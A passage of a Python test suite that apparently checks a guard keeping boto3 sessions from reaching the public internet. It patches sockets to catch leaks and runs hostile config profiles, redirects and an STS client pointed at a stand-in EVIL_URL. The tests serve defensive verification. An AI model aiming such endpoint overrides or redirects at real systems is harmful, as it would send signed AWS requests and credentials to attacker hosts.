    bundle.write_bytes(Path(link.ca_bundle).read_bytes() + authority.cert_pem.bytes())
    for name, value in link.environment().items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("AWS_CA_BUNDLE", str(bundle))
    monkeypatch.setenv("AWS_MAX_ATTEMPTS", "1")
    monkeypatch.setenv("SM_PRIVATE_ROUTE_CACHE", "off")
    made = Machine(link, redirector, tmp_path)
    # Those below pytest-socket's, which knows one spelling of loopback; only there it is led.
    connect, connect_ex = _socket.socket.connect, _socket.socket.connect_ex
    sendto = socket.socket.sendto

    def datagram(self: socket.socket, data: Any, *rest: Any) -> int:
        if not str(rest[-1][0]).startswith("127."):
            made.leaks.append(f"{rest[-1]} by UDP, {len(data)} bytes")
            return len(data)
        return sendto(self, data, *rest)

    monkeypatch.setattr(socket, "getaddrinfo", made.getaddrinfo)
    monkeypatch.setattr(socket.socket, "connect", lambda s, a: connect(s, made.led(s, a)))
    monkeypatch.setattr(socket.socket, "connect_ex", lambda s, a: connect_ex(s, made.led(s, a)))
    monkeypatch.setattr(socket.socket, "sendto", datagram)
    return made


def _set_up(attack: Attack, machine: Machine, patch: pytest.MonkeyPatch) -> None:
    config = machine.home / "profile"
    lines = attack.profile.replace("{home}", str(machine.home))
    config.write_text(f"[default]\nregion = us-east-1\n{lines}\n", encoding="utf-8")
    patch.setenv("AWS_CONFIG_FILE", str(config))
    for name, value in attack.environment.items():
        patch.setenv(name, value.replace("{home}", str(machine.home)))


# The specification


@pytest.mark.parametrize("way", OURS)
def test_without_an_attack_every_call_is_answered(
    way: str, machine: Machine, monkeypatch: pytest.MonkeyPatch
) -> None:
    """So that a call which is refused under an attack is refused for the attack."""
    attack = Attack(name="none", boto3=False)
    _set_up(attack, machine, monkeypatch)
    ended = tried(attack, way, machine, monkeypatch)
    assert set(ended.values()) == {"answered"}, ended
    assert (machine.leaks, machine.received) == ([], (0, 0))


def _rows() -> Iterator[Any]:
    """Yield every attack in all of its ways; one is always tried, the others with the slow tests.

    The ways take turns within a kind of attack, so that each kind is always tried in each way.
    """
    for kind in KINDS:
        for number, attack in enumerate(kind):
            for way in attack.ways:
                turn = attack.ways[number % len(attack.ways)]
                always = way == turn or len(kind) < len(attack.ways)
                marks = () if always else pytest.mark.slow(reason="700 rows of the same few kinds")
                yield pytest.param(attack, way, id=f"{attack.name} / {way}", marks=marks)


@pytest.mark.parametrize(("attack", "way"), [*_rows()])
@pytest.mark.filterwarnings("ignore")  # urllib3 warns of what an attack asks of it
def test_nothing_reaches_the_public_internet(
    attack: Attack, way: str, machine: Machine, monkeypatch: pytest.MonkeyPatch
) -> None:
    """However a client was made and whatever is called on it: no connection, no byte."""
    _set_up(attack, machine, monkeypatch)
    ended = tried(attack, way, machine, monkeypatch)
    assert not {"not tried", "TypeError", "AttributeError"} & set(ended.values()), ended
    assert (machine.leaks, machine.received) == ([], (0, 0)), ended


@pytest.mark.parametrize("attack", [attack for kind in KINDS for attack in kind], ids=str)
@pytest.mark.filterwarnings("ignore")
def test_without_the_guard_the_table_leaks(
    attack: Attack, machine: Machine, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Plain boto3, called in the same way, leaks if the row says so; the judge sees it."""
    _set_up(attack, machine, monkeypatch)
    ended = tried(attack, "plain", machine, monkeypatch)
    if attack.boto3 is not None:
        assert bool(machine.leaks) is attack.boto3, (ended, machine.leaks)
    if any("UDP" not in leak for leak in machine.leaks):
        deadline = time.monotonic() + 30
        while machine.received[1] == 0 and time.monotonic() < deadline:
            time.sleep(0.01)
        assert machine.received[1] > 0


def _upload(session: Any) -> None:
    session.resource("s3").Bucket("inputs").upload_fileobj(io.BytesIO(b"1"), "b")


OTHER_SERVICES: Final[Mapping[str, Callable[[Any], Any]]] = {
    "SQS": lambda session: session.client("sqs").list_queues(),
    "S3": lambda session: session.client("s3").list_buckets(),
    "S3 of another region": lambda session: session.client("s3", "eu-west-1").list_buckets(),
    "a resource of S3": lambda session: list(session.resource("s3").buckets.all()),
    "an upload to S3": _upload,
    "STS by a public name": lambda session: session.client("sts").get_caller_identity(),
    "STS at a URL": lambda session: session.client(
        "sts", endpoint_url=EVIL_URL
    ).get_caller_identity(),
    "Bedrock": lambda session: session.client("bedrock").list_foundation_models(),
    "IAM": lambda session: session.client("iam").list_users(),
}


@pytest.mark.parametrize("call", OTHER_SERVICES.values(), ids=OTHER_SERVICES)
@pytest.mark.parametrize("kind", ["sealed", "plain"])
def test_other_services_of_a_sealed_session_stay_inside(
    call: Callable[[Any], Any], kind: str, machine: Machine, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A sealed session reaches no service publicly, while boto3's reaches each."""
    _set_up(Attack(name="", boto3=True), machine, monkeypatch)
    machine.answers = {"sts.us-east-1.amazonaws.com": [(PUBLIC,)]}
    with (
        _session(kind, _core(), monkeypatch) as session,
        contextlib.suppress(botocore.exceptions.BotoCoreError, botocore.exceptions.ClientError),
    ):
        call(session)
    assert bool(machine.leaks) is (kind == "plain")
    assert machine.received == (0, 0) or kind == "plain"


def test_who_follows_a_redirect_leaks(machine: Machine, authority: trustme.CA) -> None:
    """The private peer really sends elsewhere: urllib goes there."""
    machine.answers = {RUNTIME: [(REDIRECTOR,)]}
    machine.redirector.status = 302
    context = ssl.create_default_context(cadata=authority.cert_pem.bytes().decode())
    with contextlib.suppress(OSError):
        urllib.request.urlopen(f"https://{RUNTIME}/", context=context, timeout=30)
    assert machine.leaks == [f"{PUBLIC}:443"]
